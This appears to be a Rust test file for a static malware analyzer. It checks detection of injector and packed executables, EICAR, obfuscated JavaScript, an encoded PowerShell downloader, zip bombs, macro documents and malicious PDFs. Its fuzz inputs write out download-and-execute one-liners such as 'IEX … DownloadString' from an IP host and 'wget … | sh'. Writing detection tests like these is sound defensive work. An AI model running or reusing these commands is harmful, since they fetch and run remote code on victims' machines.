//! End-to-end tests of `analyze` on built samples, plus the never-panics property test.

use proptest::prelude::*;

use super::testdata;
use super::*;
use crate::report::ThreatLevel;

fn ids(r: &StaticReport) -> Vec<&str> {
    r.indicators.iter().map(|i| i.id.as_str()).collect()
}

fn has(r: &StaticReport, id: &str) -> bool {
    r.indicators.iter().any(|i| i.id == id)
}

#[test]
fn injector_pe_is_a_trojan_injector() {
    let r = analyze("inject.exe", &testdata::injector_pe(), Depth::Standard);
    assert_eq!(r.facts.file_type, FileType::Pe);
    assert_eq!(r.facts.architecture.as_deref(), Some("x86"));
    assert!(r.facts.imports.contains(&"kernel32.dll!CreateRemoteThread".to_string()));
    assert!(has(&r, "process-injection"), "{:?}", ids(&r));
    assert!(r.classifications.contains(&"trojan:injector".to_string()));
    assert!(r.facts.strings.iter().any(|s| s.contains("VirtualAllocEx")));
    assert!(threat_score(&r.indicators) >= 40);
}

#[test]
fn packed_pe_is_classified_packed() {
    let r = analyze("packed.exe", &testdata::packed_pe(), Depth::Standard);
    for want in ["packer-section-names", "high-entropy-executable-section", "tiny-import-table"] {
        assert!(has(&r, want), "{want}: {:?}", ids(&r));
    }
    assert!(r.classifications.contains(&"packed".to_string()));
    let upx1 = r.facts.sections.iter().find(|s| s.name == "UPX1");
    assert!(upx1.is_some_and(|s| s.executable && s.entropy > 7.2));
    assert!(r.recommendations.iter().any(|s| s.contains("packed")));
}

#[test]
fn system_elf() {
    let Ok(bytes) = std::fs::read("/bin/ls") else {
        return;
    };
    let r = analyze("ls", &bytes, Depth::Standard);
    assert_eq!(r.facts.file_type, FileType::Elf);
    assert!(r.facts.sections.iter().any(|s| s.name == ".text" && s.executable));
    assert!(!r.facts.imports.is_empty());
    assert!(threat_level(&r.indicators) <= ThreatLevel::Low, "{:?}", r.indicators);
}

#[test]
fn eicar_is_recognised_and_explained() {
    let r = analyze("eicar.com", testdata::eicar(), Depth::Quick);
    assert_eq!(ids(&r), ["eicar-test-file"]);
    assert_eq!(r.classifications, ["test-file:eicar"]);
    assert!(r.recommendations[0].contains("harmless"));
    assert_eq!(threat_level(&r.indicators), ThreatLevel::Critical);
    let zipped = testdata::zip_of(&[("eicar.com", testdata::eicar())]);
    assert!(has(&analyze("eicar.zip", &zipped, Depth::Standard), "eicar-test-file"));
}

#[test]
fn layered_javascript() {
    let js = testdata::obfuscated_js();
    let r = analyze("invoice.js", js.as_bytes(), Depth::Standard);
    assert_eq!(r.facts.file_type, FileType::JavaScript);
    assert_eq!(r.iocs.urls, [testdata::OBFUSCATED_JS_URL]);
    assert!(r.iocs.domains.contains(&"malicious.example.com".to_string()));
    let code = r.deobfuscated_code.clone().unwrap_or_default();
    assert!(code.contains(testdata::OBFUSCATED_JS_URL), "{code}");
    for want in ["obfuscation-base64", "obfuscation-fromcharcode", "eval-chain", "activex-object"] {
        assert!(has(&r, want), "{want}: {:?}", ids(&r));
    }
    assert!(r.classifications.contains(&"obfuscated-script".to_string()));
}

#[test]
fn split_url_is_found_even_when_the_split_is_too_minor_to_report() {
    let js = "var u = \"http://ev\" + \"il.example.com/x\";\nfunction f() { return u; }\n";
    let r = analyze("a.js", js.as_bytes(), Depth::Standard);
    assert_eq!(r.facts.file_type, FileType::JavaScript);
    assert_eq!(r.iocs.urls, ["http://evil.example.com/x"]);
    assert!(r.deobfuscated_code.is_none());
    assert!(!has(&r, "obfuscation-string-concat"));
}

#[test]
fn encoded_powershell_downloader() {
    let ps = testdata::encoded_powershell();
    let r = analyze("run.ps1", ps.as_bytes(), Depth::Standard);
    assert_eq!(r.facts.file_type, FileType::PowerShell);
    assert_eq!(r.iocs.urls, [testdata::ENCODED_PS_URL]);
    assert_eq!(r.iocs.ips, ["203.0.113.7"]);
    let want = [
        "powershell-encoded-command",
        "download-execute",
        "execution-policy-bypass",
        "hidden-window",
        "url-with-ip-host",
    ];
    for w in want {
        assert!(has(&r, w), "{w}: {:?}", ids(&r));
    }
    assert!(r.classifications.contains(&"downloader".to_string()));
    assert!(threat_level(&r.indicators) >= ThreatLevel::High);
    assert!(r.deobfuscated_code.is_some_and(|c| c.contains("DownloadString")));
}

#[test]
fn nested_zip_listing() {
    let r = analyze("bundle.zip", &testdata::nested_zip(), Depth::Standard);
    assert_eq!(r.facts.file_type, FileType::Zip);
    assert!(r.facts.strings.iter().any(|s| s.starts_with("zip: outer.zip/middle.zip/inner.txt (")));
    assert!(!has(&r, "zip-bomb"));
    assert!(!has(&r, "high-entropy-file"));
}

#[test]
fn zip_bomb_gets_a_clear_verdict() {
    let bomb = testdata::zip_bomb(200);
    assert!(bomb.len() < 2 << 20, "bomb is {} bytes", bomb.len());
    let r = analyze("bomb.zip", &bomb, Depth::Standard);
    assert!(has(&r, "zip-bomb"), "{:?}", ids(&r));
    assert!(r.classifications.contains(&"archive:zip-bomb".to_string()));
    assert!(threat_level(&r.indicators) >= ThreatLevel::Critical);
    assert!(r.recommendations.iter().any(|s| s.contains("Do not extract")));
}

#[test]
fn lying_zip_header_is_caught_by_measuring() {
    let mut z = testdata::zip_of(&[("big.bin", &vec![0u8; 12 << 20])]);
    // Patch the declared uncompressed size (central directory offset 24) to 1000 bytes.
    let cd = (0..z.len().saturating_sub(4)).rev().find(|&i| z[i..i + 4] == *b"PK\x01\x02");
    let cd = cd.unwrap_or(0);
    z[cd + 24..cd + 28].copy_from_slice(&1000u32.to_le_bytes());
    let r = analyze("liar.zip", &z, Depth::Standard);
    assert!(has(&r, "zip-bomb"), "{:?}", r.indicators);
}

#[test]
fn office_and_pdf() {
    let docm = testdata::zip_of(&[
        ("[Content_Types].xml", b"<Types/>"),
        ("word/document.xml", b"<w:document/>"),
        ("word/vbaProject.bin", b"Attribute VB_Name\x00Sub AutoOpen()\x00Shell"),
    ]);
    let r = analyze("invoice.docm", &docm, Depth::Standard);
    assert_eq!(r.facts.file_type, FileType::Office);
    assert!(has(&r, "office-macros") && has(&r, "office-auto-exec"), "{:?}", ids(&r));
    let r = analyze("doc.pdf", &testdata::malicious_pdf(), Depth::Standard);
    assert_eq!(r.facts.file_type, FileType::Pdf);
    assert!(
        has(&r, "pdf-javascript") && has(&r, "pdf-open-action") && has(&r, "pdf-embedded-file")
    );
}

#[test]
fn random_and_empty_inputs() {
    let random = testdata::pseudo_random(1 << 20, 42);
    let r = analyze("blob.bin", &random, Depth::Standard);
    assert_eq!(r.facts.file_type, FileType::Unknown);
    assert!(r.facts.entropy > 7.9);
    assert!(has(&r, "high-entropy-file"));
    assert!(r.facts.strings.len() <= 200);
    let r = analyze("", b"", Depth::Deep);
    assert_eq!(r.facts.file_type, FileType::Unknown);
    assert_eq!(r.facts.sha256, "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855");
    assert!(r.indicators.is_empty());
    assert_eq!(
        r.recommendations,
        ["No indicators found; static analysis alone cannot prove a file safe."]
    );
}

#[test]
fn tiny_overlapping_pe_is_a_malformed_pe() {
    let mut tiny = vec![0u8; 0x200];
    tiny[..2].copy_from_slice(b"MZ");
    tiny[0x3C] = 0x0C;
    tiny[0x0C..0x10].copy_from_slice(b"PE\0\0");
    let r = analyze("tiny.exe", &tiny, Depth::Standard);
    assert_eq!(r.facts.file_type, FileType::Pe);
    assert!(has(&r, "malformed-executable"), "{:?}", ids(&r));
}

#[test]
fn quick_depth_skips_structure() {
    let r = analyze("inject.exe", &testdata::injector_pe(), Depth::Quick);
    assert_eq!(r.facts.file_type, FileType::Pe);
    assert!(
        r.facts.sections.is_empty() && r.facts.imports.is_empty() && r.facts.strings.is_empty()
    );
    assert!(!r.facts.md5.is_empty());
}

#[test]
fn report_is_deterministic_and_serialises() {
    let data = testdata::obfuscated_js();
    let a = analyze("a.js", data.as_bytes(), Depth::Deep);
    let b = analyze("a.js", data.as_bytes(), Depth::Deep);
    assert_eq!(a, b);
    let json = serde_json::to_string(&a).unwrap_or_default();
    assert!(json.contains("\"deobfuscatedCode\"") && json.contains("\"fileType\":\"javascript\""));
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 64, ..ProptestConfig::default() })]

    #[test]
    fn analyze_never_panics(data in proptest::collection::vec(any::<u8>(), 0..4096)) {
        let r = analyze("fuzz", &data, Depth::Deep);
        prop_assert!(r.facts.entropy >= 0.0 && r.facts.entropy <= 8.0);
        prop_assert!(!r.recommendations.is_empty());
    }

    #[test]
    fn analyze_never_panics_on_mutated_samples(
        which in 0usize..5,
        flips in proptest::collection::vec((any::<prop::sample::Index>(), any::<u8>()), 1..16),
    ) {
        let mut data = match which {
            0 => testdata::injector_pe(),
            1 => testdata::nested_zip(),
            2 => testdata::obfuscated_js().into_bytes(),
            3 => testdata::malicious_pdf(),
            _ => testdata::encoded_powershell().into_bytes(),
        };
        for (at, byte) in flips {
            let i = at.index(data.len());
            data[i] = byte;
        }
        let _ = analyze("mutant", &data, Depth::Standard);
    }
}

const NAMES: [&str; 7] = ["a.js", "a.ps1", "a.vbs", "a.bat", "a.sh", "a.py", ""];

proptest! {
    #![proptest_config(ProptestConfig { cases: 64, ..ProptestConfig::default() })]

    /// Script-shaped input reaches the type detection, deobfuscation and behaviour stages that
    /// random bytes almost never do.
    #[test]
    fn analyze_never_panics_on_script_like_text(
        lines in proptest::collection::vec(
            proptest::sample::select(&[
                "@echo off", "IEX (New-Object Net.WebClient).DownloadString('http://1.2.3.4/a')",
                "var a = 'ht' + 'tp';", "eval(atob('YWxlcnQoMSk='))", "Dim x", "#!/bin/sh",
                "import os", "powershell -enc SQBFAFgAIAAnAGgAaQAnAA==", "wget http://x.io/a | sh",
                "String.fromCharCode(104,105)", "HKCU\\Software\\x", "é\u{0}\u{7f}", "%~dp0",
            ][..]),
            0..40,
        ),
        name in proptest::sample::select(&NAMES[..]),
    ) {
        let text = lines.join("\n");
        let r = analyze(name, text.as_bytes(), Depth::Deep);
        prop_assert!(!r.recommendations.is_empty());
    }
}
